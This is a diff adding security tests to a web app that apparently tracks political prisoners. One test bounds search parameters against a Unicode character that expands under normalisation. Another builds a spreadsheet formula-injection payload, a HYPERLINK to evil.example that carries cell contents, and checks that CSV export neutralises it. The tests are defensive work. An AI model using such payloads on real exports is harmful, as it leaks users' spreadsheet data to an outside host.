@@ -3,12 +3,20 @@ caches that no request pattern can grow past their bounds."""
 
 from __future__ import annotations
 
-from datetime import date, timedelta
+import csv
+import io
+import unicodedata
+from datetime import date, datetime, timedelta
+from pathlib import Path
 
+import pytest
 from fastapi.testclient import TestClient
 
+from prisonwatch.services import importing
+from prisonwatch.storage.sql import SqlStore
 from prisonwatch.web.app import SECURITY_HEADERS
 from prisonwatch.web.context import MAX_ENTRIES, MAX_VIEWS, Lru
+from prisonwatch.web.responses import FORMULA_STARTS, MAX_TEXT_PARAM, csv_cell
 from tests.web.conftest import login
 
 
@@ -89,3 +97,60 @@ def test_distinct_parameters_do_not_grow_the_caches(client: TestClient) -> None:
         client.get(f"/api/v1/stats?on={d}&known_on={d}&org=Viasna")
     sizes = client.app.state.ledger.cache_sizes()  # type: ignore[attr-defined]
     assert sizes["views"] == MAX_VIEWS and sizes["entries"] == MAX_ENTRIES
+
+
+def test_free_text_parameters_are_bounded_after_normalisation(client: TestClient) -> None:
+    """U+FDFA is one character that NFKC expands to 18: 2,000 of them made a name search take
+    seconds. Every free-text parameter is bounded after normalisation, with a clear 400."""
+    expands = "\ufdfa" * 2000
+    assert len(unicodedata.normalize("NFKC", "\ufdfa" * 12)) > MAX_TEXT_PARAM
+    for value in (expands, "\ufdfa" * 12, "x" * (MAX_TEXT_PARAM + 1)):
+        for name, path in (
+            ("q", "/api/v1/persons"),
+            ("q", "/api/v1/persons.csv"),
+            ("org", "/api/v1/persons"),
+            ("region", "/api/v1/persons"),
+            ("org", "/api/v1/stats"),
+            ("country", "/api/v1/stats"),
+            ("org", "/api/v1/deals"),
+        ):
+            r = client.get(path, params={name: value})
+            assert r.status_code == 400, (path, name)
+            error = r.json()["error"]
+            assert error["code"] == "bad_request" and name in error["message"]
+            assert value not in r.text
+        for path in ("/persons", "/"):
+            key = "q" if path == "/persons" else "org"
+            r = client.get(path, params={key: value})
+            assert r.status_code == 400 and "at most" in r.text, path
+    ok = client.get("/api/v1/persons", params={"q": "x" * MAX_TEXT_PARAM})
+    assert ok.status_code == 200
+    assert client.get("/api/v1/persons", params={"q": "Бяляцкі"}).status_code == 200
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_csv_answers_neutralise_formulas(
+    client: TestClient, web_store: SqlStore, tmp_path: Path, start: str
+) -> None:
+    name = f'{start}HYPERLINK("https://evil.example/"&A1,"x")'
+    persons = tmp_path / "persons_formula.csv"
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="\n")
+    w.writerow(["id", "name", "gender", "region", "country", "protection", "recorded_at"])
+    w.writerow(["by-formula", name, "unknown", f"{start}1+1", "BY", "public", "2025-01-01"])
+    persons.write_text(buf.getvalue(), encoding="utf-8")
+    report = importing.import_files(web_store, [persons], "tester", datetime(2026, 1, 1))
+    assert report.ok, report.problems
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/persons.csv").text)))
+    mine = [r for r in rows if r["id"] == "by-formula"]
+    stored = web_store.person("by-formula")
+    assert stored is not None and mine
+    if start.strip():  # the import strips a leading tab or CR; csv_cell is checked below
+        assert mine[0]["name"] == "'" + name and mine[0]["region"] == "'" + start + "1+1"
+    else:
+        assert mine[0]["name"] == stored.name
+    for r in rows:
+        for cell in r.values():
+            assert not cell.startswith(FORMULA_STARTS), cell
+    assert csv_cell(start + "x") == "'" + start + "x" and csv_cell("\rx") == "'\rx"
+    assert csv_cell(-3) == -3 and csv_cell("Minsk") == "Minsk" and csv_cell(["=a", "b"]) == "'=a|b"
